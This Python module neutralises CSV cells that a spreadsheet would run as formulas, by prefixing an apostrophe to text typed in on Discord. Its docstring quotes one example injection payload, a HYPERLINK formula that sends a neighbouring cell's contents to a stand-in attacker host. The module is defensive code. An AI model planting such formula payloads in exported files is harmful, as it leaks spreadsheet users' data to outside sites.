"""One rule for every CSV cell the project writes or serves: typed text stays text.

Questions are typed by anyone on Discord. A spreadsheet opening a CSV runs a cell that
starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return before one) as a
formula, so ``=HYPERLINK("//evil.example/x?"&A1, …)`` would send a neighbouring cell to
another site. Such a cell gets a leading apostrophe, which spreadsheets show as text
and hide. Plain numbers (``-1``, ``0.82``) are left alone: they cannot be formulas, and
a vote of ``-1`` must stay a number. Full-width ``＝＋－＠`` are escaped too: Japanese
input methods type them, and some spreadsheet set-ups read them as formula starts.
"""

from __future__ import annotations

import re

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")


def neutralise(value: object) -> str:
    """The cell text for ``value``: None is empty, formulas get a leading apostrophe."""
    if value is None:
        return ""
    text = str(value)
    if text.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def neutralise_row(values: list[object]) -> list[str]:
    return [neutralise(value) for value in values]
